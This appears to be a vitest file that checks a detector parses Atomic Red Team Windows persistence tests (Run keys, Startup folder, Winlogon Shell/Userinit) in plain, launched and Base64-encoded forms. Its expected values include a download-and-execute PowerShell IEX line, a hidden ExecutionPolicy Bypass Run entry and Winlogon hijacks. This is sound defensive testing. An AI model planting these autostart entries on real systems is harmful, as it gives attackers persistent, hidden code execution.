// Every executor command of the Atomic Red Team tests for T1547.001 and T1547.004
// (../shared/samples/redcanaryco_atomic-red-team), input arguments at their defaults, read in three
// forms: as the YAML writes it (a script for PowerShell executors, a cmd line for command_prompt),
// as Invoke-AtomicTest starts it ("powershell.exe" & {...} with each " written \"", or
// "cmd.exe" /c with the lines joined by &), and as powershell.exe -EncodedCommand (UTF-16LE Base64).
// Each must give the location, value name and data (or Startup file) the test writes. Tests the
// evidence cannot show are listed with why.

import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import { HAVE_SAMPLES, NO_SAMPLES_REASON, samplePath } from '../../samples';
import { readCommandLine, readScript, type CommandLineWrite } from '../../../shared/shell';

interface AtomicTest {
  name: string;
  input_arguments?: Record<string, { default: unknown }>;
  executor: { name: string; command?: string };
}

interface Expect {
  location: string;
  valueName?: string;
  data?: string;
  targetFile?: string;
  appended?: boolean;
}

const PS_ATOMICS = 'C:\\AtomicRedTeam\\atomics';
const CALC = 'C:\\Windows\\System32\\calc.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

/** Per technique, per test number (1-based, the order of the YAML): what it writes. */
const EXPECTED: Record<string, Record<number, Expect[]>> = {
  'T1547.001': {
    1: [{ location: 'run', valueName: 'Atomic Red Team', data: 'C:\\Path\\AtomicRedTeam.exe' }],
    2: [{ location: 'runonceex', valueName: '1', data: 'C:\\Path\\AtomicRedTeam.dll' }],
    3: [{ location: 'runonce', valueName: 'NextRun', data: 'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1547.001/src/Discovery.bat`")"' }],
    4: [
      { location: 'startup-folder', targetFile: '%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\vbsstartup.vbs' },
      { location: 'startup-folder', targetFile: 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\vbsstartup.vbs' },
    ],
    5: [
      { location: 'startup-folder', targetFile: '%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\jsestartup.jse' },
      { location: 'startup-folder', targetFile: 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\jsestartup.jse' },
    ],
    6: [
      { location: 'startup-folder', targetFile: '%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\batstartup.bat' },
      { location: 'startup-folder', targetFile: 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\batstartup.bat' },
    ],
    7: [{ location: 'startup-folder', targetFile: '%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\calc_exe.lnk', data: CALC }],
    8: [{ location: 'recycle-bin-open', valueName: '(Default)', data: 'calc.exe' }],
    9: [{ location: 'run', valueName: 'socks5_powershell', data: 'powershell.exe -windowstyle hidden -ExecutionPolicy Bypass -File' }],
    10: [{ location: 'shell-folders-startup', valueName: 'Common Startup', data: '%TMP%\\atomictest\\' }],
    11: [{ location: 'shell-folders-startup', valueName: 'Startup', data: '%TMP%\\atomictest\\' }],
    12: [{ location: 'policies-run', valueName: 'atomictest', data: CALC }],
    13: [{ location: 'policies-run', valueName: 'atomictest', data: CALC }],
    // read-modify-write: the old value is not in the evidence, the appended program is the payload
    14: [{ location: 'winlogon-userinit', valueName: 'Userinit', data: CALC, appended: true }],
    15: [{ location: 'winlogon-shell', valueName: 'Shell', data: 'C:\\Windows\\explorer.exe', appended: true }],
    16: [{ location: 'security-template', data: `${PS_ATOMICS}\\T1547.001\\src\\regtemplate.ini` }],
    17: [{ location: 'bootexecute', valueName: 'BootExecute', data: 'autocheck autoche *' }],
    18: [{ location: 'rdp-startup-programs', valueName: 'StartupPrograms', data: 'calc' }],
    19: [{ location: 'boot-verification', valueName: 'ImagePath', data: 'C:\\Program Files\\Internet Explorer\\iexplore.exe' }],
    20: [{ location: 'context-menu-command', valueName: '(Default)', data: CALC }],
  },
  'T1547.004': {
    1: [{ location: 'winlogon-shell', valueName: 'Shell', data: `explorer.exe, ${CMD}` }],
    2: [{ location: 'winlogon-userinit', valueName: 'Userinit', data: `Userinit.exe, ${CMD}` }],
    4: [{ location: 'winlogon-shell', valueName: 'Shell', data: `explorer.exe, ${CMD}` }],
    5: [{ location: 'winlogon-userinit', valueName: 'Userinit', data: `Userinit.exe, ${CMD}` }],
  },
};

/** Tests whose writes the evidence cannot show, and why (each must then read as no write). */
const NOT_SHOWN: Record<string, Record<number, string>> = {
  'T1547.004': {
    3: 'writes HKCU\\...\\Winlogon\\Notify\\AtomicRedTeam: Winlogon reads Notify packages from HKLM only (and not at all since Vista), so the per-user key autostarts nothing; the catalog location is machine-scoped',
  },
};

function substitute(t: AtomicTest): string {
  let cmd = t.executor.command ?? '';
  for (const [k, v] of Object.entries(t.input_arguments ?? {})) cmd = cmd.split(`#{${k}}`).join(String(v.default));
  return cmd.replace(/\$PathToAtomicsFolder/g, PS_ATOMICS).trim();
}

/** The three forms of one test's command. */
function forms(t: AtomicTest): Array<[string, () => CommandLineWrite[]]> {
  const cmd = substitute(t);
  if (t.executor.name === 'powershell') {
    const launched = `"powershell.exe" & {${cmd.replace(/"/g, '\\""')}}`;
    const b64 = Buffer.from(cmd, 'utf16le').toString('base64');
    return [
      ['as written (script)', () => readScript(cmd)],
      ['as Invoke-AtomicTest launches it', () => readCommandLine(launched).writes],
      ['as -EncodedCommand', () => readCommandLine(`powershell.exe -NoProfile -EncodedCommand ${b64}`).writes],
    ];
  }
  const joined = cmd.split(/\r?\n/).join(' & ');
  const b64 = Buffer.from(`cmd.exe /c ${joined}`, 'utf16le').toString('base64');
  return [
    ['as written (cmd line)', () => readCommandLine(joined).writes],
    ['as Invoke-AtomicTest launches it', () => readCommandLine(`"cmd.exe" /c ${joined}`).writes],
    // a command_prompt test run from an encoded PowerShell: the cmd line inside the script
    ['as -EncodedCommand', () => readCommandLine(`powershell.exe -enc ${b64}`).writes],
  ];
}

function shape(w: CommandLineWrite): Expect {
  const loc = w.kind === 'security-template' ? 'security-template' : w.location?.id ?? (w.kind === 'startup-file' ? 'startup-folder' : w.kind);
  const out: Expect = { location: loc };
  if (w.valueName !== undefined) out.valueName = w.valueName;
  if (w.data !== undefined) out.data = w.data;
  if (w.targetFile !== undefined) out.targetFile = w.targetFile;
  if (w.appended) out.appended = true;
  return out;
}

const YAML = (tech: string) => `redcanaryco_atomic-red-team/atomics/${tech}/${tech}.yaml`;

describe.skipIf(!HAVE_SAMPLES)('Atomic Red Team T1547.001 / T1547.004 commands read in three forms (../shared/samples)', () => {
  if (!HAVE_SAMPLES) console.warn(NO_SAMPLES_REASON);
  const tests = (tech: string): AtomicTest[] => (HAVE_SAMPLES ? (parse(readFileSync(samplePath(YAML(tech)), 'utf8')) as { atomic_tests: AtomicTest[] }).atomic_tests : []);

  it.each(Object.keys(EXPECTED))('lists every test of %s as read or as not shown', (tech) => {
    const n = tests(tech).length;
    const listed = [...Object.keys(EXPECTED[tech]), ...Object.keys(NOT_SHOWN[tech] ?? {})].map(Number).sort((a, b) => a - b);
    expect(listed).toEqual(Array.from({ length: n }, (_, i) => i + 1));
  });

  const rows = Object.entries(EXPECTED).flatMap(([tech, byNum]) => Object.entries(byNum).map(([num, exp]) => [tech, Number(num), exp] as const));
  it.each(rows)('%s test %i: location, value name and data in all three forms', (tech, num, exp) => {
    const t = tests(tech)[num - 1];
    for (const [form, read] of forms(t)) {
      const got = read().map(shape);
      expect(got, `${tech} #${num} ${t.name} ${form}`).toEqual(exp);
    }
  });

  const hidden = Object.entries(NOT_SHOWN).flatMap(([tech, byNum]) => Object.entries(byNum).map(([num, why]) => [tech, Number(num), why] as const));
  it.each(hidden)('%s test %i is not shown by a command line: %s', (tech, num) => {
    const t = tests(tech)[num - 1];
    for (const [form, read] of forms(t)) expect(read(), form).toEqual([]);
  });
});
